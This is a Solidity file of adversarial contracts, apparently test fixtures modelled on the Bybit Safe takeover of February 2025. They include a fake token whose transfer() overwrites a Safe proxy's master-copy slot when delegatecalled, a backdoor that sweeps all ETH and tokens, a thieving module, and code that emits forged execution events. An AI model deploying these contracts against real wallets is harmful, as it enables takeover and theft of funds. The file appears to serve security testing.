// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.37;

/// Bybit, 21 February 2025: looks like a token, since it has `transfer(address,uint256)`. Delegated to, that writes the
/// recipient into slot 0, where a Safe's proxy keeps which contract it is.
contract LooksLikeAToken {
    address private masterCopy;

    function transfer(address to, uint256) external {
        masterCopy = to;
    }
}

/// What the proxy is from then on: it hands everything to whoever asks.
contract Backdoor {
    function sweepETH(address payable to) external {
        (bool sent, ) = to.call{value: address(this).balance}("");
        require(sent);
    }

    function sweepERC20(address token, address to) external {
        (bool read, bytes memory units) = token.staticcall(
            abi.encodeWithSignature("balanceOf(address)", address(this))
        );
        require(read);
        (bool sent, ) = token.call(
            abi.encodeWithSignature("transfer(address,uint256)", to, abi.decode(units, (uint256)))
        );
        require(sent);
    }
}

/// A Safe's module that takes what it wants, as a module may.
contract ThievingModule {
    function take(address safe, address to, uint256 units) external {
        (bool taken, ) = safe.call(
            abi.encodeWithSignature("execTransactionFromModule(address,uint256,bytes,uint8)", to, units, "", 0)
        );
        require(taken);
    }
}

/// Sends coins as old contracts do, with 2,300 gas, and as a contract that ends does, by force.
contract Sender {
    function pay(address payable to) external payable {
        to.transfer(msg.value);
    }

    function force(address payable to) external payable {
        selfdestruct(to);
    }
}

/// Calls whom it is told to call, so that a Safe is called by a contract and not by an account.
contract Caller {
    function pass(address to, bytes calldata data) external payable {
        (bool done, bytes memory answer) = to.call{value: msg.value}(data);
        if (!done) assembly {
            revert(add(answer, 32), mload(answer))
        }
    }

    receive() external payable {}
}

/// Code at a Safe's address that is not a Safe's any more, and tells of an old execution while it pays somebody else.
contract ReplayingCode {
    event ExecutionSuccess(bytes32 indexed txHash, uint256 payment);

    function replay(bytes calldata told, bytes32 hash, address payable to, uint256 units) external {
        bytes memory data = told;
        assembly {
            log1(add(data, 32), mload(data), 0x66753cd2356569ee081232e3be8909b950e0a76c1f8460c3a5e3c2be32b11bed)
        }
        emit ExecutionSuccess(hash, 0);
        (bool sent, ) = to.call{value: units}("");
        require(sent);
    }
}
